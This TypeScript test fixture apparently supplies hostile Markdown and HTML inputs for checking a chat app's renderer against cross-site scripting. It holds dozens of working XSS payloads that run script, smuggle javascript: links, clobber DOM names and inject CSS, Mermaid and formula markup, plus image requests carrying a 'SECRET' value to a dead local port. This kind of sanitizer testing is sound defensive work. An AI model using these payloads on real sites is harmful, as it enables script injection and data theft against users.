import { readFileSync } from 'node:fs';

/** A text that tries to run as code, load something or cover the page; `window.__xss` tells that it ran. */
export interface Hostile {
  id: string;
  payload: string;
}

const RUN = 'window.__xss=1';

/** Where nothing listens; a request to it is a complaint. */
const ALIEN = 'http://127.0.0.1:9';

/** One of each way in: elements that load, events, addresses of links, Markdown's own syntax, formulas, diagrams, styles, marks. */
const STREAMED = [
  `<script>${RUN}</script>`,
  `<img src="missing.png" onerror="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="java&#x09;script:${RUN}">read on</a> and [read on](javascript:${RUN})`,
  `<base href="http://127.0.0.1:9/"><link rel="stylesheet" href="http://127.0.0.1:9/a.css"><style>@import url(http://127.0.0.1:9/b.css);</style>`,
  `![picture](http://127.0.0.1:9/p.png?words=SECRET) ![](data:image/svg+xml,<svg/onload=${RUN}>)`,
  `<div style="position:fixed;inset:0;background:url(http://127.0.0.1:9/c.png)" onmouseover="${RUN}">over everything</div>`,
  `<form action="http://127.0.0.1:9/"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">go</button></form>`,
  `$$\\href{javascript:${RUN}}{x} \\htmlData{a=b}{y}$$`,
  '```mermaid\ngraph TD\nA["<img src=x onerror=' + RUN + '>"] --> B\nclick A "javascript:' + RUN + '"\n```',
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `[^1]: <b onclick="${RUN}">note</b>\n\nWords[^1] | <i onpointerenter=${RUN}>cell</i>`,
];

/** More of them, each another trick. They are drawn from storage, many at once. */
const STORED = [
  // Elements that change their meaning when markup is parsed once more.
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"></script><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">a picture with a link</text></a><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<math href="javascript:${RUN}"><maction actiontype="statusline#${ALIEN}" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<!--><img src=x onerror=${RUN}>--> <![CDATA[<img src=x onerror=${RUN}>]]> <?xml <img src=x onerror=${RUN}>?>`,
  `<title><img src=x onerror=${RUN}></title><xmp><img src=x onerror=${RUN}></xmp><plaintext>`,
  `<textarea></textarea><img src=x onerror=${RUN}><select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<template shadowrootmode="open"><slot></slot><img src=x onerror=${RUN}></template><div><template shadowroot="open"><script>${RUN}</script></template></div>`,
  `<IMG SRC=x ONERROR=${RUN}> <iMg/src=x/oNeRrOr=${RUN}> <img\tsrc=x\tonerror\t=\t${RUN}> <img src=x onerror\n=\n"${RUN}">`,
  `<<img src=x onerror=${RUN}//<</img>> <img """><img src=x onerror=${RUN}>"> <div\u2028onclick=${RUN}>line</div>`,
  // Addresses that are not what they seem.
  `[a](JaVaScRiPt:${RUN}) [b](javascript&colon;${RUN}) [c](&#x6A;&#97;vascript:${RUN}) [d](java\u0000script:${RUN}) [e]( \u0001javascript:${RUN})`,
  `[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==) [b](vbscript:msgbox(1)) [c](blob:null/1) [d](filesystem:http://x/) [e](file:///etc/passwd)`,
  `[read on][1] and ![picture][2] and <javascript:${RUN}> and <data:text/html,x>\n\n[1]: javascript:${RUN} "title"\n[2]: javascript:${RUN}`,
  `[\u202Ecod.elpmaxe//:sptth](javascript:${RUN}) java\u200Bscript:${RUN} [java\u200Bscript](java\u200Bscript:${RUN})`,
  `[a](https://example.com" onmouseover="${RUN}) [b](<https://x" onclick=${RUN}>) [c](https://x 'a" onfocus="${RUN}')`,
  `[![inner](javascript:${RUN})](javascript:${RUN}) ![a](x"onerror="${RUN}) ![b](${ALIEN}/b.png "t\\" onload=${RUN}")`,
  `<a href="//127.0.0.1:9/x" ping="${ALIEN}/ping" download target="_self" onclick=${RUN}>ping</a> <area href="javascript:${RUN}">`,
  `<a href="javascript:${RUN}" target="_top">top</a><a href="jav\nascript:${RUN}">lines</a><a href="&#14; javascript:${RUN}">control</a>`,
  `![](/api/v1/status) ![](//127.0.0.1:9/p.png) ![](\\\\127.0.0.1\\p.png) ![](https:${ALIEN}) <img srcset="${ALIEN}/s.png 1x" src="${ALIEN}/t.png">`,
  // Elements that load, move the page, submit or open something.
  `<meta http-equiv="refresh" content="0;url=${ALIEN}/"><meta http-equiv="set-cookie" content="a=b"><link rel="prefetch" href="${ALIEN}/p"><link rel="dns-prefetch" href="//127.0.0.1">`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><applet code="x"></applet><portal src="${ALIEN}"></portal><fencedframe></fencedframe>`,
  `<video src="${ALIEN}/v" poster="${ALIEN}/p" onerror=${RUN}><source onerror=${RUN}></video><audio src=x onerror=${RUN}></audio><track src="${ALIEN}/t" oncuechange=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>more</summary>text</details><marquee onstart=${RUN}>run</marquee><body onload=${RUN}><input type=image src=x onerror=${RUN}>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>close</button></form></dialog><div popover id=p onbeforetoggle=${RUN}>p</div><button popovertarget=p commandfor=p command="show-modal">open</button>`,
  `<form id=f action="javascript:${RUN}"></form><button form=f formaction="javascript:${RUN}" formtarget=_top>send</button><isindex action="javascript:${RUN}"><keygen autofocus onfocus=${RUN}>`,
  `<p contenteditable autofocus tabindex=1 onfocus=${RUN} accesskey=x onblur=${RUN}>edit</p><p style="animation:x 1s" onanimationstart=${RUN}>a</p><p onscrollsnapchange=${RUN} oncontentvisibilityautostatechange=${RUN}>b</p>`,
  `<iframe src="javascript:parent.${RUN}"></iframe><iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe><frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  // Styles that reach out, cover or spy.
  `<style>body{display:none!important} *{background:url(${ALIEN}/s.png)} @font-face{font-family:x;src:url(${ALIEN}/f)} input[value^=a]{background:url(${ALIEN}/a)}</style>`,
  `<p style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">cover</p><p style="background:url('${ALIEN}/q');behavior:url(#x);-moz-binding:url(#x)">styles</p>`,
  `<p class="fixed inset-0 z-50 bg-accent" style="x:expression(${RUN})">classes of the page</p><p style="--x:url(${ALIEN}/v);background:var(--x)">variable</p>`,
  `<link rel=stylesheet href="data:text/css,body{display:none}"><style>@import "data:text/css,body{display:none}";</style><svg><style>body{visibility:hidden}</style></svg>`,
  // Names that take the place of what scripts look for.
  `<img name=body><img name=cookie><form name=querySelector><input name=attributes></form><img name=getElementById><a id=page>page</a><form id=location><input id=href></form>`,
  `<p id="__proto__">a</p><p id="constructor">b</p><a id=root>c</a><a id=root name=chatbox>d</a><p id="toString" name="valueOf">e</p><output id=documentElement>f</output>`,
  // Formulas.
  `$$\\href{javascript:${RUN}}{a} \\url{javascript:${RUN}} \\href{data:text/html,x}{b} \\includegraphics[height=1em]{${ALIEN}/k.png}$$`,
  `$$\\htmlStyle{position:fixed;inset:0;background:red}{a} \\htmlId{root}{b} \\htmlClass{fixed}{c} \\htmlData{onclick=${RUN}}{d} \\text{<img src=x onerror=${RUN}>}$$`,
  `$$\\def\\x{\\x\\x}\\x \\rule{9000em}{9000em} \\kern-9000em \\color{url(${ALIEN}/c)}{x} \\unicode{<script>}$$`,
  // Diagrams.
  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "theme": "base"}}%%\ngraph TD\nA["<img src=x onerror=' + RUN + '>"] --> B["<iframe srcdoc=x></iframe>"]\nclick A call eval("' + RUN + '")\nclick B href "javascript:' + RUN + '" _self\n```',
  '```mermaid\n%%{init: {"themeCSS": "} * { background: url(' + ALIEN + '/m.png) } body { display: none }", "fontFamily": "x;} body{display:none} a{", "themeVariables": {"primaryColor": "red;} body{display:none}"}}}%%\ngraph LR\nA-->B\n```',
  '```mermaid\n---\ntitle: <script>' + RUN + '</script>\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA@{ img: "' + ALIEN + '/i.png", label: "x", w: 60, h: 60 }\nclassDef bad fill:url(' + ALIEN + '/u),stroke:red;background:url(' + ALIEN + '/w)\nclass A bad\n```',
  '```mermaid\nsequenceDiagram\nparticipant A as <img src=x onerror=' + RUN + '>\nA->>A: <svg onload=' + RUN + '>\n```',
  '```mermaid\nsequenceDiagram\nparticipant A as #lt;img src=x onerror=' + RUN + '>\nNote over A: &lt;img src=x onerror=' + RUN + '><#105;mg src=x onerror=' + RUN + '>\nA->>A: #60;svg onload=' + RUN + '>\n```',
  // Marks of our own and what else Markdown has.
  `Words[^1][^<img src=x onerror=${RUN}>][^"onclick=${RUN}].\n\n[^<img src=x onerror=${RUN}>]: javascript:${RUN}\n[^1]: [a](javascript:${RUN})`,
  `<sup data-citation="1" onclick=${RUN}>1</sup><sup data-citation="javascript:${RUN}">x</sup><button data-citation="quoted">1</button><input data-message="x" type=checkbox checked>`,
  `| a | <img src=x onerror=${RUN}> |\n|:--|:-:|\n| [x](javascript:${RUN}) | \`</code><script>${RUN}</script>\` |\n| <td onclick=${RUN}> | ![](javascript:${RUN}) |`,
  '```"><img src=x onerror=' + RUN + '> title="</code><script>' + RUN + '</script>" onclick=' + RUN + '\n</code></pre><script>' + RUN + '</script>\n```\n\n~~~javascript:' + RUN + ' {1,2} "onload=' + RUN + '\nx\n~~~',
  '```html title="<img src=x onerror=' + RUN + '>"\n<!doctype html>\n<title></title><img src=x onerror=' + RUN + '>\n<script>parent.' + RUN + '</script>\n<h1 onclick=' + RUN + '>x</h1>\n```',
  '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="' + RUN + '">\n<script>parent.' + RUN + '</script>\n<title>"><img src=x onerror=' + RUN + '></title></svg>\n```',
  `- [x] <img src=x onerror=${RUN}>\n- [ ] [a](javascript:${RUN})\n\n> <blockquote cite="javascript:${RUN}" onclick=${RUN}>\n\n1. ~~<s onclick=${RUN}>~~ **<b onclick=${RUN}>** <ins cite="javascript:${RUN}">`,
  `# <img src=x onerror=${RUN}> {#id onclick=${RUN}}\n\n<h1 id=page onclick=${RUN}>\n\nTerm\n: <img src=x onerror=${RUN}>\n\n:::note{onclick="${RUN}"}\n:::`,
  // Much of it, and signs that cannot be seen.
  `<a title="${'x'.repeat(50_000)}" onclick="${RUN}" href="javascript:${RUN}//${'y'.repeat(50_000)}">huge</a>`,
  `<div ${Array.from({ length: 300 }, (_, at) => `a${at}=1 onclick${at}=1`).join(' ')} onclick=${RUN}>many</div>`,
  `\uFEFF<scr\u0000ipt>${RUN}</scr\u0000ipt> <scr\u200Bipt>${RUN}</scr\u200Bipt> \u202E<tpircs/>${RUN}<tpircs>\u202C ＜script＞${RUN}＜/script＞ %3Cscript%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]] <x-script>${RUN}</x-script> <b is="x-y" onclick=${RUN}>`,
];

/** Names of files as they come in folders of strangers. */
export const HOSTILE_NAMES = [`<img src=x onerror=${RUN}>.txt`, `"><svg onload=${RUN}>.md`, `javascript:${RUN}.txt`, `'-${RUN}-'.csv`];

/** Those that are drawn while they are written: some of our own, or all of the file that CHATBOX_XSS_CASES names, lines of JSON with `id` and `payload`. */
export function hostileTexts(): Hostile[] {
  const file = process.env.CHATBOX_XSS_CASES;
  if (!file) return named(STREAMED);
  const lines = readFileSync(file, 'utf8').split('\n').filter((line) => line.trim());
  return lines.map((line) => JSON.parse(line) as { id: number; payload: string }).map(({ id, payload }) => ({ id: String(id), payload }));
}

/** All of our own. */
export function ownTexts(): Hostile[] {
  return named([...STREAMED, ...STORED]);
}

function named(payloads: readonly string[]): Hostile[] {
  return payloads.map((payload, index) => ({ id: `own ${index}`, payload }));
}

/** Markdown that nests as deep as nobody means, of the file that CHATBOX_DEEP_TEXT names or our own. */
export function deepText(): string {
  const file = process.env.CHATBOX_DEEP_TEXT;
  return file ? readFileSync(file, 'utf8') : `${'>'.repeat(20_000)} deep\n\n${'['.repeat(20_000)}\n\n${'*a '.repeat(5_000)}\n`;
}
